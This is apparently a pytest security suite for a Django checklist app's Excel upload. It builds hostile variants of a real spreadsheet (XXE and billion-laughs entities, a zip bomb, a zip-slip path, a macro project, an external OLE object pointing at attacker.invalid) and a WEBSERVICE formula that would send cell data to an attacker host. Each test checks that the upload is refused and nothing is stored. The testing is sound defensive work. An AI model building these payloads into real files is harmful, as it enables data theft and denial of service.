"""The checklist Excel round trip's upload against hostile files (same rules as the registry import).

1. Every sample of the corpus through the reader: none is an offline-filling file, so each is
   refused with a Chinese message, whatever it carries (scripts, programs, images, macros, XXE,
   billion laughs, zip bombs, zip slip, remote templates…).
2. Hostile variants of a REAL offline-filling file of the checklist, so that only the hostile
   part can be the reason: through the upload view they are refused (400, Chinese message) and
   nothing is kept (no file on disk, nothing in the session) and nothing is written.
3. A formula in a cell is never evaluated: only the value the spreadsheet cached is read.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from anbiao.checklists.roundtrip.reader import WorkbookError, read_offline_file
from anbiao.checklists.roundtrip.services import UPLOAD_DIR
from anbiao.checklists.roundtrip.workbook import render_offline_xlsx
from tests.security.hostile.corpus import (
    LAUGHS_DTD,
    XXE_DTD,
    Sample,
    part,
    rezip,
    samples,
    with_dtd,
)

CHINESE = re.compile(r"[\u4e00-\u9fff]")
SHEET = "xl/worksheets/sheet1.xml"
META = "xl/worksheets/sheet3.xml"


@pytest.mark.parametrize("sample", samples(), ids=lambda s: s.id)
def test_no_file_of_the_corpus_is_read_as_an_offline_file(sample: Sample, settings) -> None:  # noqa: ANN001
    if sample.limit is not None:
        settings.ANBIAO_MAX_UPLOAD_BYTES = sample.limit
    with pytest.raises(WorkbookError) as refused:
        read_offline_file(sample.make())
    assert CHINESE.search(refused.value.message), refused.value.message


# --- hostile variants of a real offline-filling file --------------------------------------------


def _ole_rels() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/oleObject" Target="http://attacker.invalid/x.bin" TargetMode="External"/>'
        b"</Relationships>"
    )


def _far_row(sheet: bytes) -> bytes:
    return sheet.replace(
        b"</sheetData>",
        '<row r="150000"><c r="D150000" t="inlineStr"><is><t>符合</t></is></c></row></sheetData>'.encode(),
    )


def _shared_strings_with(f: bytes, dtd: bytes, entity: bytes) -> bytes:
    """The file as Excel saves it (shared strings), with a DTD in its shared-strings part."""
    from anbiao.checklists.roundtrip.tests.helpers import as_excel_saved

    saved = as_excel_saved(f)
    strings = "xl/sharedStrings.xml"
    return rezip(saved, replace={strings: with_dtd(part(saved, strings), dtd, entity)})


VARIANTS = {
    "xxe-in-shared-strings": lambda f: _shared_strings_with(f, XXE_DTD, b"&xxe;"),
    "billion-laughs-in-shared-strings": lambda f: _shared_strings_with(f, LAUGHS_DTD, b"&lol9;"),
    "xxe-in-the-sheet": lambda f: rezip(
        f, replace={SHEET: with_dtd(part(f, SHEET), XXE_DTD, b"&xxe;")}
    ),
    "xxe-in-the-identity-sheet": lambda f: rezip(
        f, replace={META: with_dtd(part(f, META), XXE_DTD, b"&xxe;")}
    ),
    "billion-laughs-in-workbook-xml": lambda f: rezip(
        f,
        replace={"xl/workbook.xml": with_dtd(part(f, "xl/workbook.xml"), LAUGHS_DTD, b"&lol9;")},
    ),
    "xxe-in-content-types": lambda f: rezip(
        f,
        replace={"[Content_Types].xml": with_dtd(part(f, "[Content_Types].xml"), XXE_DTD, b"")},
    ),
    "zip-bomb-part": lambda f: rezip(f, add={"xl/media/bomb.bin": b"\0" * (30 * 1024 * 1024)}),
    "too-many-parts": lambda f: rezip(f, add={f"xl/media/{i}.txt": b"x" for i in range(2100)}),
    "zip-slip-name": lambda f: rezip(f, add={"../../../../tmp/owned.txt": b"owned"}),
    "macro-project": lambda f: rezip(
        f, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 9}
    ),
    "macro-content-type": lambda f: rezip(
        f,
        replace={
            "[Content_Types].xml": part(f, "[Content_Types].xml").replace(
                b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"
            )
        },
    ),
    "external-ole-object": lambda f: rezip(
        f, add={"xl/worksheets/_rels/sheet1.xml.rels": _ole_rels()}
    ),
    "rows-far-below-the-table": lambda f: rezip(f, replace={SHEET: _far_row(part(f, SHEET))}),
    "identity-sheet-removed": lambda f: rezip(
        f, replace={META: part(f, META).replace(b"anbiao-checklist-offline-v1", b"x")}
    ),
    "truncated-zip": lambda f: f[: len(f) // 2],
    "saved-as-xls": lambda f: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096,
    "saved-as-csv": lambda f: "项目,“回头看”内容,结论\n一,1,符合\n".encode(),
}


@pytest.fixture
def target(db):  # noqa: ANN001, ANN201
    from anbiao.checklists.roundtrip.tests.helpers import client_for, snapshot, unit

    u = unit()
    return {
        "unit": u,
        "client": client_for(u.filler),
        "file": render_offline_xlsx(u.checklist),
        "before": snapshot(u.checklist),
    }


def _kept_files() -> list[Path]:
    folder = Path(settings.MEDIA_ROOT) / UPLOAD_DIR
    return list(folder.glob("*")) if folder.exists() else []


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(VARIANTS))
def test_a_hostile_offline_file_is_refused_and_nothing_is_kept(name: str, target) -> None:  # noqa: ANN001
    from django.urls import reverse

    from anbiao.checklists.roundtrip.tests.helpers import snapshot

    u = target["unit"]
    data = VARIANTS[name](target["file"])
    upload = SimpleUploadedFile("附件2离线填写.xlsx", data, content_type="application/octet-stream")
    response = target["client"].post(
        reverse("checklists:offline:upload", args=[u.checklist.pk]), {"file": upload}
    )
    assert response.status_code == 400, name
    html = response.content.decode()
    error = re.search(r'<p class="field-error" role="alert">(.*?)</p>', html, re.S)
    assert error and CHINESE.search(error.group(1)), html[:300]
    assert "root:" not in html and "lollol" not in html
    assert _kept_files() == []
    session = target["client"].session
    assert not [k for k in list(session.keys()) if k.startswith("checklist_offline:")]
    assert snapshot(u.checklist) == target["before"]


@pytest.mark.django_db
def test_the_unchanged_real_file_is_accepted(target) -> None:  # noqa: ANN001
    """The same file without the hostile part goes through, so the refusals are about it."""
    offline = read_offline_file(target["file"])
    assert offline.identity.checklist == str(target["unit"].checklist.pk)
    assert len(offline.rows) == target["unit"].checklist.answers.count()


@pytest.mark.django_db
def test_a_formula_is_never_evaluated_only_its_cached_value_is_read(target) -> None:  # noqa: ANN001
    from io import BytesIO

    from openpyxl import load_workbook

    from anbiao.checklists.roundtrip.tests.helpers import row_of

    u = target["unit"]
    r = row_of(load_workbook(BytesIO(target["file"])), u.answer(2).clause_id)
    sheet = part(target["file"], SHEET)
    cell = re.search(rb'<c r="D%d"[^>]*>.*?</c>' % r, sheet, re.S)
    assert cell, "the 结论 cell of clause 2"
    formula = (
        f'<c r="D{r}" t="str"><f>WEBSERVICE("http://attacker.invalid/?"&amp;C{r})</f>'
        "<v>不适用</v></c>"  # the value the spreadsheet cached
    ).encode()
    data = rezip(target["file"], replace={SHEET: sheet.replace(cell.group(0), formula)})
    row = next(x for x in read_offline_file(data).rows if x.row_no == r)
    assert row.result == "不适用"
